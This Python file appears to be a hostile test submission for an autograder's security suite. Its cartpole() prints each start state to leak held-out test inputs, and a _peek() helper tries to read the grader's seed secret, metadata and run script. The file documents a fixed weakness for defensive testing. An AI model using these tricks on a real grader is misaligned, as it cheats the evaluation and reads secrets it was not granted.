"""Hostile (issue 22, finding 1), first upload: an honest cartpole() that prints every start it is dealt.

On a Gradescope bundle that graded every upload on one seed and showed the student's output, one upload of
this file revealed the held-out starts, and a second upload played tapes memorised for them
(`start_keyed_tapes.py`). It also prints the bundle's seed secret and the upload's metadata if it can read
them (it cannot: only the grader, as root, reads them; student code runs as an unprivileged uid).
The bundle now derives a fresh seed per upload and keeps what the code prints for the instructor.
"""

import gymnasium as gym

PEEKS = ("/autograder/source/seed_secret", "/autograder/submission_metadata.json", "/autograder/run_autograder")


_peeked = []


def _peek():
    if _peeked:
        return
    _peeked.append(True)
    for path in PEEKS:
        try:
            with open(path, encoding="utf-8", errors="replace") as handle:
                print(f"read {path}: {handle.read(200)!r}")
        except OSError as error:
            print(f"cannot read {path}: {type(error).__name__}")


def cartpole():
    _peek()
    env = gym.make("CartPole-v0")
    obs, _ = env.reset()
    print("start [" + ", ".join(str(value) for value in obs) + "]")
    done = False
    steps = 0
    while not done:
        obs, _, terminated, truncated, _ = env.step(1 if obs[3] > 0 else 0)
        done = terminated or truncated
        steps += 1
    env.close()
    return steps
